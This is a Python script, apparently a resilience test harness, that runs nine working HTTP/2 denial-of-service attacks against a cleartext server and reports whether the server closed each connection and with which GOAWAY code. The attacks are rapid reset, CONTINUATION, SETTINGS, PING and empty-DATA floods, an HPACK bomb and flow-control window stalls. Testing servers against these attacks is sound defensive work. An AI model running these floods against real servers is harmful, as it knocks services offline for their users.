"""Attacks a server that takes HTTP/2 without TLS, with frames that no client would send. Called
with host, port, the name of an attack, and for how many seconds to come back with it. Says "ready"
and begins when it is told a line; prints one JSON object: how many connections it had, whether the
server ended each of them, after how many seconds at most, with how many frames in all, and what the
last was told at its end."""

import json
import os
import select
import socket
import sys
import time

from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame,
    SettingsFrame, WindowUpdateFrame,
)

HOST, PORT, ATTACK, LASTING = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# What is sent when nothing ends the connection.
FRAMES = 100_000
SECONDS = 8
# How long the end may take of a connection that is to be ended, on a machine that is busy.
SOON = 20


def literal(name, value):
    """A header that is in no table and enters none; `name` is an index, or text."""
    if isinstance(name, int):
        return bytes([name, len(value)]) + value
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


def request(path, method=0x82):
    """The header block of a request, by the static table (RFC 7541, appendix A)."""
    authority = f"{HOST}:{PORT}".encode()
    return bytes([method, 0x86]) + literal(4, path) + literal(1, authority)


def headers(stream, block, *flags):
    frame = HeadersFrame(stream, block)
    for flag in flags:
        frame.flags.add(flag)
    return frame.serialize()


class Peer:
    def __init__(self, settings=None):
        self.socket = socket.create_connection((HOST, PORT))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.setblocking(False)
        self.start = time.monotonic()
        self.frames = 0
        self.received = b""
        self.ended = False
        self.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())

    def look(self, seconds=0):
        """Reads what is there."""
        if self.ended or not select.select([self.socket], [], [], seconds)[0]:
            return
        try:
            data = self.socket.recv(1 << 20)
            self.ended = not data
            # The end is what counts; what comes before it is not to be kept.
            self.received = (self.received + data)[-(1 << 20):]
        except BlockingIOError:
            pass
        except OSError:
            self.ended = True

    def send(self, data, frames=0, reading=True):
        """Sends all of it, or gives up: when the server ended, or takes nothing for a while."""
        view, deadline = memoryview(data), self.start + SECONDS
        while view and not self.ended:
            if reading:
                self.look()
            if time.monotonic() > deadline:
                return False
            if not select.select([], [self.socket], [], 0.1)[1]:
                continue
            try:
                view = view[self.socket.send(view):]
            except BlockingIOError:
                pass
            except OSError:
                self.ended = True
        self.frames += frames
        return not self.ended

    def flood(self, piece, batch=100, reading=True):
        """Sends what `piece` makes of the numbers of frames, a batch at a time."""
        for n in range(0, FRAMES, batch):
            if not self.send(b"".join(piece(n + i) for i in range(batch)), batch, reading):
                break

    def finish(self, patience=SOON):
        """Waits for the end, if it comes in that time; returns what came of this connection."""
        deadline = time.monotonic() + patience
        while not self.ended and time.monotonic() < deadline:
            self.look(0.1)
        seconds = time.monotonic() - self.start
        self.socket.close()
        return {"ended": self.ended, "seconds": seconds, "frames": self.frames, "error": self.error()}

    def error(self):
        """The error code of the GOAWAY, if one came at the end."""
        data, code = self.received, None
        while len(data) >= 9:
            try:
                frame, length = Frame.parse_frame_header(memoryview(data[:9]))
                frame.parse_body(memoryview(data[9:9 + length]))
            except Exception:
                break
            if isinstance(frame, GoAwayFrame):
                code = frame.error_code
            data = data[9 + length:]
        return code


def rapid_reset(batch):
    peer = Peer()
    block = request(b"/v1/sse?channel=reset")

    def pair(n):
        stream = 2 * n + 1
        reset = RstStreamFrame(stream, error_code=8).serialize()
        return headers(stream, block, "END_HEADERS", "END_STREAM") + reset

    peer.flood(pair, batch)
    return peer.finish()


def continuation_flood():
    peer = Peer()
    peer.send(headers(1, request(b"/livez"), "END_STREAM"), 1)
    piece = ContinuationFrame(1, literal(b"x-filler", b"y" * 100) * 140).serialize()
    peer.flood(lambda _: piece, 1)
    return peer.finish()


def settings_flood():
    peer = Peer()
    piece = SettingsFrame(0, settings={4: 65_535}).serialize()
    peer.flood(lambda _: piece, reading=False)
    return peer.finish(1)


def ping_flood():
    peer = Peer()
    piece = PingFrame(0, opaque_data=b"12345678").serialize()
    peer.flood(lambda _: piece, reading=False)
    return peer.finish(1)


def empty_data_flood():
    peer = Peer()
    peer.send(headers(1, request(b"/v1/publish", 0x83), "END_HEADERS"), 1)
    piece = DataFrame(1, b"").serialize()
    peer.flood(lambda _: piece)
    return peer.finish()


def hpack_bomb():
    """Puts one long header into the table, then names it thousands of times in each request."""
    peer = Peer()
    value = b"z" * 3_900
    # Literal with incremental indexing; the length is an integer of a 7 bit prefix.
    rest = len(value) - 127
    entry = b"\x40\x06x-bomb" + b"\x7f" + bytes([rest & 127 | 128, rest >> 7]) + value
    peer.send(headers(1, request(b"/livez") + entry, "END_HEADERS", "END_STREAM"), 1)
    block = request(b"/livez") + b"\xbe" * 15_000
    for n in range(1, 1_000):
        if not peer.send(headers(2 * n + 1, block, "END_HEADERS", "END_STREAM"), 1):
            break
    return peer.finish()


def zero_window():
    """Opens as many streams as there may be and takes nothing of them."""
    peer = Peer({4: 0})
    for n in range(128):
        path = b"/v1/sse?channel=busy" if n % 2 else b"/v1/channels/busy/history?limit=100"
        block = request(path)
        peer.send(headers(2 * n + 1, block, "END_HEADERS", "END_STREAM"), 1)
    return peer.finish(1)


def windows_by_the_byte():
    """Lets a busy stream go on byte by byte."""
    peer = Peer({4: 1})
    block = request(b"/v1/sse?channel=busy")
    peer.send(headers(1, block, "END_HEADERS", "END_STREAM"), 1)
    update = WindowUpdateFrame(1, window_increment=1).serialize()
    peer.flood(lambda _: update)
    return peer.finish(1)


ATTACKS = {
    "rapid_reset": lambda: rapid_reset(1_000),
    "rapid_reset_one_by_one": lambda: rapid_reset(1),
    "continuation_flood": continuation_flood,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "empty_data_flood": empty_data_flood,
    "hpack_bomb": hpack_bomb,
    "zero_window": zero_window,
    "windows_by_the_byte": windows_by_the_byte,
}


def main():
    # An attacker computes on a machine of its own, and so takes little time from those it disturbs.
    os.nice(5)
    print("ready", flush=True)
    sys.stdin.readline()
    end = time.monotonic() + LASTING
    outcomes = [ATTACKS[ATTACK]()]
    while time.monotonic() < end:
        outcomes.append(ATTACKS[ATTACK]())
    print(json.dumps({
        "connections": len(outcomes),
        "ended": all(outcome["ended"] for outcome in outcomes),
        "seconds": round(max(outcome["seconds"] for outcome in outcomes), 3),
        "frames": sum(outcome["frames"] for outcome in outcomes),
        "error": outcomes[-1]["error"],
    }))


main()
